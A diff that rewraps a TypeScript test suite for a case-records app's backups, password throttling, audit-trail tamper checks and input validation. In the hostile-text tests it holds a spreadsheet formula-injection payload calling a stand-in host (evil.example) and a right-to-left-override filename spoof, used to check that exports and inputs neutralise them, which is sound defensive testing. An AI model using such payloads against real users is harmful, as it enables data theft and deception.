@@ -28,11 +28,16 @@ async function withBackup(): Promise<{ t: TestCore; usb: string; path: string }>
 /** Runs the child until the restoring copy's write-ahead log has frames, then kills it with SIGKILL. */
 function killAtFirstFrames(env: Record<string, string>): Promise<void> {
   return new Promise((done, fail) => {
-    const child = spawn(process.execPath, [testChild('restoreKillChild')], { env: { ...process.env, ...env }, stdio: ['ignore', 'pipe', 'pipe'] });
+    const child = spawn(process.execPath, [testChild('restoreKillChild')], {
+      env: { ...process.env, ...env },
+      stdio: ['ignore', 'pipe', 'pipe'],
+    });
     let err = '';
     child.stderr.on('data', (d: Buffer) => (err += d.toString()));
     child.stdout.on('data', (d: Buffer) => d.toString().includes('frames written') && child.kill('SIGKILL'));
-    child.on('exit', (_code, signal) => (signal === 'SIGKILL' ? done() : fail(new Error(`the child stopped by itself: ${err}`))));
+    child.on('exit', (_code, signal) =>
+      signal === 'SIGKILL' ? done() : fail(new Error(`the child stopped by itself: ${err}`)),
+    );
   });
 }
 
@@ -41,7 +46,11 @@ describe('restores interrupted at the worst moment', () => {
     const { t, path } = await withBackup();
 
     const restoring = join(t.dataDir, 'casebook.db.restoring');
-    await killAtFirstFrames({ KILL_BACKUP: path, KILL_RESTORING: restoring, KILL_KEY: t.cb.requireSession().dbKey.toString('hex') });
+    await killAtFirstFrames({
+      KILL_BACKUP: path,
+      KILL_RESTORING: restoring,
+      KILL_KEY: t.cb.requireSession().dbKey.toString('hex'),
+    });
     expect(existsSync(`${restoring}-wal`) && statSync(`${restoring}-wal`).size > 0).toBe(true);
 
     // Casebook starts again (as after the power cut): the waiting copy and its side files are gone.
@@ -70,7 +79,11 @@ describe('restores interrupted at the worst moment', () => {
 
   it('a backup clears what interrupted backups left on the stick, and never another one still being written', async () => {
     const { t, usb } = await withBackup();
-    const old = ['.casebook-0123456789ab.db.tmp', '.casebook-0123456789ab.db.tmp-journal', '.casebook-ba9876543210.backup.tmp'];
+    const old = [
+      '.casebook-0123456789ab.db.tmp',
+      '.casebook-0123456789ab.db.tmp-journal',
+      '.casebook-ba9876543210.backup.tmp',
+    ];
     // An hour before now by the drive's own clock (file times come from the system, not the test's day).
     writeFileSync(join(usb, 'now'), '');
     const anHourAgo = new Date(statSync(join(usb, 'now')).mtimeMs - 3600_000);
@@ -99,7 +112,9 @@ describe('restores interrupted at the worst moment', () => {
     }
     mkdirSync(join(safety, '2026-11-23T10-10-00-000Z.partial'));
     writeFileSync(join(safety, '2026-11-23T10-10-00-000Z.partial', 'casebook.db'), 'half a copy');
-    const before = readdirSync(safety).filter((f) => !f.endsWith('.partial')).sort();
+    const before = readdirSync(safety)
+      .filter((f) => !f.endsWith('.partial'))
+      .sort();
     await t.ok('backup.restore', { path, credentials: null });
     const after = readdirSync(safety).sort();
     expect(after).toHaveLength(3);
@@ -119,7 +134,10 @@ describe('who may roll the records back', () => {
       return signInAsNewUser(t, 'Carl Caseworker', 'caseworker');
     })();
     await t.ok('session.lock', {});
-    for (const who of [{ name: 'Vera Volunteer', password: volunteer.password }, { name: 'Carl Caseworker', password: caseworker.password }]) {
+    for (const who of [
+      { name: 'Vera Volunteer', password: volunteer.password },
+      { name: 'Carl Caseworker', password: caseworker.password },
+    ]) {
       expect((await t.fail('backup.restore', { path, credentials: who })).code, who.name).toBe('FORBIDDEN');
       expect((await t.fail('backup.inspect', { path, credentials: who })).code, who.name).toBe('FORBIDDEN');
     }
@@ -137,7 +155,14 @@ describe('who may roll the records back', () => {
     await t.ok('session.unlock', ADMIN);
     const { path: withVera } = await t.ok('backup.create', { targetDir: tempDir('casebook-usb-') });
     const fresh = startCore();
-    expect((await fresh.fail('backup.restore', { path: withVera, credentials: { name: 'Vera Volunteer', password: 'volunteer password 123' } })).code).toBe('FORBIDDEN');
+    expect(
+      (
+        await fresh.fail('backup.restore', {
+          path: withVera,
+          credentials: { name: 'Vera Volunteer', password: 'volunteer password 123' },
+        })
+      ).code,
+    ).toBe('FORBIDDEN');
     expect(readdirSync(fresh.dataDir).filter((f) => f.includes('casebook.db'))).toEqual([]);
     await fresh.ok('backup.restore', { path, credentials: ADMIN });
   });
@@ -148,15 +173,24 @@ describe('guessing passwords', () => {
     const { t, path } = await withBackup();
     await t.ok('session.lock', {});
     const wrong = { name: ADMIN.name, password: 'not it at all' };
-    expect(await t.fail('backup.inspect', { path, credentials: wrong })).toMatchObject({ code: 'NOT_CURRENT_CREDENTIALS', retryAfterMs: 1000 });
+    expect(await t.fail('backup.inspect', { path, credentials: wrong })).toMatchObject({
+      code: 'NOT_CURRENT_CREDENTIALS',
+      retryAfterMs: 1000,
+    });
     expect((await t.fail('backup.restore', { path, credentials: wrong })).code).toBe('TOO_MANY_ATTEMPTS');
     expect((await t.fail('session.unlock', ADMIN)).code).toBe('TOO_MANY_ATTEMPTS');
     t.clock.now += 1000;
-    expect(await t.fail('backup.restore', { path, credentials: wrong })).toMatchObject({ code: 'NOT_CURRENT_CREDENTIALS', retryAfterMs: 2000 });
+    expect(await t.fail('backup.restore', { path, credentials: wrong })).toMatchObject({
+      code: 'NOT_CURRENT_CREDENTIALS',
+      retryAfterMs: 2000,
+    });
     t.clock.now += 2000;
     await t.ok('session.unlock', ADMIN);
     const failed = (await t.ok('audit.list', { action: 'session.failedPasswordCheck' })).items;
-    expect(failed.map((e) => e.detail)).toEqual([expect.objectContaining({ channel: 'backup.restore' }), expect.objectContaining({ channel: 'backup.inspect' })]);
+    expect(failed.map((e) => e.detail)).toEqual([
+      expect.objectContaining({ channel: 'backup.restore' }),
+      expect.objectContaining({ channel: 'backup.inspect' }),
+    ]);
     // Signed in, a wrong password for another install's backup is recorded too.
     expect((await t.fail('backup.inspect', { path, credentials: wrong })).code).toBe('WRONG_PASSWORD');
     expect((await t.ok('audit.list', { action: 'session.failedPasswordCheck' })).total).toBe(3);
@@ -165,8 +199,19 @@ describe('guessing passwords', () => {
   it('tries made at the same moment are checked one after another, so only the first is looked at', async () => {
     const { t } = await withBackup();
     await t.ok('session.lock', {});
-    const tries = await Promise.all(Array.from({ length: 6 }, (_, i) => t.call('session.unlock', { name: ADMIN.name, password: `guess number ${i}` })));
-    expect(tries.map((r) => (r.ok ? 'ok' : r.error.code)).sort()).toEqual(['TOO_MANY_ATTEMPTS', 'TOO_MANY_ATTEMPTS', 'TOO_MANY_ATTEMPTS', 'TOO_MANY_ATTEMPTS', 'TOO_MANY_ATTEMPTS', 'WRONG_PASSWORD']);
+    const tries = await Promise.all(
+      Array.from({ length: 6 }, (_, i) =>
+        t.call('session.unlock', { name: ADMIN.name, password: `guess number ${i}` }),
+      ),
+    );
+    expect(tries.map((r) => (r.ok ? 'ok' : r.error.code)).sort()).toEqual([
+      'TOO_MANY_ATTEMPTS',
+      'TOO_MANY_ATTEMPTS',
+      'TOO_MANY_ATTEMPTS',
+      'TOO_MANY_ATTEMPTS',
+      'TOO_MANY_ATTEMPTS',
+      'WRONG_PASSWORD',
+    ]);
   });
 
   it('the waits survive a restart, and trying many names counts for everyone', async () => {
@@ -184,7 +229,9 @@ describe('guessing passwords', () => {
     expect(codes.slice(0, 4)).toEqual(['WRONG_PASSWORD', 'WRONG_PASSWORD', 'WRONG_PASSWORD', 'WRONG_PASSWORD']);
     expect(codes).toContain('TOO_MANY_ATTEMPTS');
     // A name never tried still waits, because of the others.
-    expect((await t2.fail('session.unlock', { name: 'Never Tried', password: 'guess' })).code).toBe('TOO_MANY_ATTEMPTS');
+    expect((await t2.fail('session.unlock', { name: 'Never Tried', password: 'guess' })).code).toBe(
+      'TOO_MANY_ATTEMPTS',
+    );
     // The file keeps counts, not names.
     expect(JSON.stringify(readdirSync(t2.dataDir))).toContain('throttle.json');
     const kept = readFileSync(join(t2.dataDir, 'throttle.json'), 'utf8');
@@ -197,7 +244,19 @@ function rewriteKeyFile(dir: string, change: (f: Record<string, unknown>) => voi
   const path = join(dir, 'keyslots.json');
   const f = JSON.parse(readFileSync(path, 'utf8')) as Record<string, unknown>;
   change(f);
-  const fields = ['format', 'version', 'vaultId', 'slots', 'auditInboxKey', 'inboxMac', 'auditHead', 'headMac', 'generation', 'generationMac', 'mac'];
+  const fields = [
+    'format',
+    'version',
+    'vaultId',
+    'slots',
+    'auditInboxKey',
+    'inboxMac',
+    'auditHead',
+    'headMac',
+    'generation',
+    'generationMac',
+    'mac',
+  ];
   const ordered = Object.fromEntries(fields.filter((k) => f[k] !== undefined).map((k) => [k, f[k]]));
   f['checksum'] = createHash('sha256').update(JSON.stringify(ordered)).digest('hex');
   writeFileSync(path, JSON.stringify(f, null, 2));
@@ -233,7 +292,9 @@ describe('the key file and the audit trail', () => {
     const db = openDatabase(join(t.dataDir, 'casebook.db'), key);
     const sqlite = db.$client;
     sqlite.exec('DROP TRIGGER audit_events_no_update; DROP TRIGGER audit_events_no_delete;');
-    const rows = sqlite.prepare('SELECT id, at, user_id AS userId, action, client_id AS clientId, detail FROM audit_events ORDER BY id').all() as ChainedFields[];
+    const rows = sqlite
+      .prepare('SELECT id, at, user_id AS userId, action, client_id AS clientId, detail FROM audit_events ORDER BY id')
+      .all() as ChainedFields[];
     const kept = rows.slice(0, -3);
     kept[1]!.detail = JSON.stringify({ edited: true });
     sqlite.prepare('DELETE FROM audit_events WHERE id > ?').run(kept[kept.length - 1]!.id);
@@ -242,7 +303,9 @@ describe('the key file and the audit trail', () => {
       previous = auditHash(previous, row);
       sqlite.prepare('UPDATE audit_events SET detail = ?, hash = ? WHERE id = ?').run(row.detail, previous, row.id);
     }
-    sqlite.prepare(`UPDATE settings SET value = ? WHERE key = 'audit_head'`).run(JSON.stringify({ id: kept[kept.length - 1]!.id, hash: previous }));
+    sqlite
+      .prepare(`UPDATE settings SET value = ? WHERE key = 'audit_head'`)
+      .run(JSON.stringify({ id: kept[kept.length - 1]!.id, hash: previous }));
     closeDatabase(db);
     await t.ok('session.unlock', ADMIN);
     expect((await t.ok('audit.list', { action: 'audit.trailRewritten' })).total).toBe(1);
@@ -258,15 +321,30 @@ describe('hostile text', () => {
     const t = startCore();
     await setUp(t);
     const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+1+1', '-2+3', '@SUM(1,1)'];
-    for (const [i, lastName] of hostile.entries()) await addNewPerson(t, { firstName: `Name${i}`, lastName, gender: '=1+1', intakeDate: '2026-11-01' });
+    for (const [i, lastName] of hostile.entries())
+      await addNewPerson(t, { firstName: `Name${i}`, lastName, gender: '=1+1', intakeDate: '2026-11-01' });
     const files = [
-      (await t.ok('clients.exportCsv', { query: '', status: null, caseworkerId: null, riskFlag: null, sort: 'name', descending: false })).path,
+      (
+        await t.ok('clients.exportCsv', {
+          query: '',
+          status: null,
+          caseworkerId: null,
+          riskFlag: null,
+          sort: 'name',
+          descending: false,
+        })
+      ).path,
       (await t.ok('reports.saveCsv', { from: '2026-01-01', to: '2026-11-23' })).path,
       (await t.ok('audit.exportCsv', {})).path,
     ];
     for (const file of files) {
-      const cells = (parseCsv(readFileSync(file, 'utf8').replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]).flat();
-      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c)), file).toEqual([]);
+      const cells = (
+        parseCsv(readFileSync(file, 'utf8').replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]
+      ).flat();
+      expect(
+        cells.filter((c) => /^[=+\-@\t\r]/.test(c)),
+        file,
+      ).toEqual([]);
     }
     // The names are there, as text.
     const clients = readFileSync(files[0]!, 'utf8');
@@ -289,7 +367,11 @@ describe('names and text that look like something else', () => {
       ['Anna Kowa1ska', 'nameLooksLikeAnother'],
       ['anna  kowalska', 'nameTaken'],
     ];
-    for (const [name, why] of tries) expect((await t.fail('users.create', { name, role: 'admin', password: 'a long password 1' })).fields, JSON.stringify(name)).toEqual({ name: why });
+    for (const [name, why] of tries)
+      expect(
+        (await t.fail('users.create', { name, role: 'admin', password: 'a long password 1' })).fields,
+        JSON.stringify(name),
+      ).toEqual({ name: why });
     // Letters of Polish are letters, not lookalikes: Łucja and Lucja are two people.
     await t.ok('users.create', { name: 'Lucja Nowak', role: 'caseworker', password: 'a long password 1' });
     await t.ok('users.create', { name: 'Łucja Nowak', role: 'caseworker', password: 'a long password 1' });
@@ -303,11 +385,36 @@ describe('names and text that look like something else', () => {
     const t = startCore();
     await setUp(t);
     for (const lastName of ['Nowak\u202E', 'No\u0000wak', 'Nowak\u0085', 'Now\u2066ak', 'Nowak\nKowalska'])
-      expect((await t.fail('clients.intake', { details: { firstName: 'Jan', lastName }, duplicatesSeen: [] })).fields, JSON.stringify(lastName)).toEqual({ 'details.lastName': 'invalidCharacters' });
-    expect((await t.fail('charity.update', { name: 'Przystań\u202Egpj.exe', address: null, charityNumber: null, phone: null, email: null })).fields).toMatchObject({ name: 'invalidCharacters' });
-    const client = await addNewPerson(t, { firstName: 'Jan', lastName: 'Nowak', address: '12 High Street\nLeeds\u0007 LS1 4AB' });
+      expect(
+        (await t.fail('clients.intake', { details: { firstName: 'Jan', lastName }, duplicatesSeen: [] })).fields,
+        JSON.stringify(lastName),
+      ).toEqual({ 'details.lastName': 'invalidCharacters' });
+    expect(
+      (
+        await t.fail('charity.update', {
+          name: 'Przystań\u202Egpj.exe',
+          address: null,
+          charityNumber: null,
+          phone: null,
+          email: null,
+        })
+      ).fields,
+    ).toMatchObject({ name: 'invalidCharacters' });
+    const client = await addNewPerson(t, {
+      firstName: 'Jan',
+      lastName: 'Nowak',
+      address: '12 High Street\nLeeds\u0007 LS1 4AB',
+    });
     expect((await t.ok('clients.get', { id: client.id })).client.address).toBe('12 High Street\nLeeds LS1 4AB');
-    const note = await t.ok('notes.save', { clientId: client.id, note: { date: '2026-11-23', time: '10:00', kind: 'phone', body: 'First line\n\tindented\u001B[31m and a bell\u0007.' } });
+    const note = await t.ok('notes.save', {
+      clientId: client.id,
+      note: {
+        date: '2026-11-23',
+        time: '10:00',
+        kind: 'phone',
+        body: 'First line\n\tindented\u001B[31m and a bell\u0007.',
+      },
+    });
     expect(note.body).toBe('First line\n\tindented[31m and a bell.');
     const { safeFileName } = await import('../../electron/core/storage/files');
     expect(safeFileName('Casebook Przystań\u202Egpj.exe\u007F 2026')).toBe('Casebook Przystań gpj.exe 2026');
@@ -321,14 +428,26 @@ describe('references to records that are not there, or not this client’s', () 
     await setUp(t);
     const jan = await addNewPerson(t, { firstName: 'Jan', lastName: 'Nowak' });
     const ewa = await addNewPerson(t, { firstName: 'Ewa', lastName: 'Kowal' });
-    const janNote = await t.ok('notes.save', { clientId: jan.id, note: { date: '2026-11-23', time: '10:00', kind: 'phone', body: 'Jan rang.' } });
+    const janNote = await t.ok('notes.save', {
+      clientId: jan.id,
+      note: { date: '2026-11-23', time: '10:00', kind: 'phone', body: 'Jan rang.' },
+    });
     // Editing Jan's note from Ewa's record.
-    const wrongClient = await t.fail('notes.save', { clientId: ewa.id, target: { id: janNote.id, version: janNote.version }, note: { date: '2026-11-23', time: '10:00', kind: 'phone', body: 'Changed from Ewa’s record.' } });
+    const wrongClient = await t.fail('notes.save', {
+      clientId: ewa.id,
+      target: { id: janNote.id, version: janNote.version },
+      note: { date: '2026-11-23', time: '10:00', kind: 'phone', body: 'Changed from Ewa’s record.' },
+    });
     expect(wrongClient.code).toBe('NOT_FOUND');
     expect((await t.ok('notes.get', { id: janNote.id })).body).toBe('Jan rang.');
     // A letter kept with a referral that does not exist.
-    const general = (await t.ok('templates.list', { includeArchived: false })).find((x) => x.kind === 'general' && x.language === 'en')!;
-    const noReferral = await t.fail('letters.keep', { request: { clientId: jan.id, templateId: general.id, referralId: 999, text: 'Hello' }, edits: { subject: 'A letter', body: 'Hello' } });
+    const general = (await t.ok('templates.list', { includeArchived: false })).find(
+      (x) => x.kind === 'general' && x.language === 'en',
+    )!;
+    const noReferral = await t.fail('letters.keep', {
+      request: { clientId: jan.id, templateId: general.id, referralId: 999, text: 'Hello' },
+      edits: { subject: 'A letter', body: 'Hello' },
+    });
     expect(noReferral).toMatchObject({ code: 'BAD_INPUT', fields: { referralId: 'invalid' } });
   });
 });
@@ -364,14 +483,20 @@ describe('records changed outside Casebook', () => {
     const original = readFileSync(join(t.dataDir, 'keyslots.json'));
     type Slot = { kind: string; userId: number | null; kdf: Record<string, number> };
     const slots = (f: Record<string, unknown>) => f['slots'] as Slot[];
-    const volunteerId = slots(JSON.parse(original.toString('utf8'))).find((s) => s.kind === 'password' && s.userId !== 1)!.userId;
+    const volunteerId = slots(JSON.parse(original.toString('utf8'))).find(
+      (s) => s.kind === 'password' && s.userId !== 1,
+    )!.userId;
     // Vera's slot made to say it is the administrator's (user 1).
     rewriteKeyFile(t.dataDir, (f) => {
       for (const s of slots(f)) if (s.userId === volunteerId) s.userId = 1;
     });
-    expect((await t.fail('session.unlock', { name: 'Vera Volunteer', password: 'volunteer password 123' })).code).toBe('KEY_SLOT_CHANGED');
+    expect((await t.fail('session.unlock', { name: 'Vera Volunteer', password: 'volunteer password 123' })).code).toBe(
+      'KEY_SLOT_CHANGED',
+    );
     // A wrong password on the same changed slot is still only a wrong password.
-    expect((await t.fail('session.unlock', { name: 'Vera Volunteer', password: 'not her password 1' })).code).toBe('WRONG_PASSWORD');
+    expect((await t.fail('session.unlock', { name: 'Vera Volunteer', password: 'not her password 1' })).code).toBe(
+      'WRONG_PASSWORD',
+    );
     // The administrator's slot with settings that would take hours: not run at all.
     writeFileSync(join(t.dataDir, 'keyslots.json'), original);
     rewriteKeyFile(t.dataDir, (f) => {
@@ -429,7 +554,11 @@ describe('refused calls', () => {
     await t.fail('users.list', {});
     await t.ok('session.lock', {});
     await t.ok('session.unlock', ADMIN);
-    const refused = (await t.ok('audit.list', { action: 'access.refused' })).items.map((e) => [e.userName, e.detail?.['channel'], e.detail?.['count']]);
+    const refused = (await t.ok('audit.list', { action: 'access.refused' })).items.map((e) => [
+      e.userName,
+      e.detail?.['channel'],
+      e.detail?.['count'],
+    ]);
     expect(refused).toEqual([
       ['Vera Volunteer', 'users.list', 1],
       ['Vera Volunteer', 'audit.list', 1],
@@ -448,12 +577,19 @@ describe('an older copy put back', () => {
     const earlier = copyOf(t.dataDir, 'casebook.db');
     await t.ok('session.unlock', ADMIN);
     const later = await addNewPerson(t, { firstName: 'Jan', lastName: 'Później' });
-    await t.ok('clients.erase', { id: later.id, mode: 'erase', reason: 'Asked to be forgotten', confirmation: later.reference });
+    await t.ok('clients.erase', {
+      id: later.id,
+      mode: 'erase',
+      reason: 'Asked to be forgotten',
+      confirmation: later.reference,
+    });
     await t.ok('session.lock', {});
     writeFileSync(join(t.dataDir, 'casebook.db'), earlier);
     const state = await t.ok('session.unlock', ADMIN);
     expect(state.rollback).toBe('records');
-    expect((await t.ok('audit.list', { action: 'records.rollbackSuspected' })).items[0]!.detail).toEqual({ found: 'records' });
+    expect((await t.ok('audit.list', { action: 'records.rollbackSuspected' })).items[0]!.detail).toEqual({
+      found: 'records',
+    });
     // Still there at the next sign-in, until an administrator confirms.
     await t.ok('session.lock', {});
     expect((await t.ok('session.unlock', ADMIN)).rollback).toBe('records');
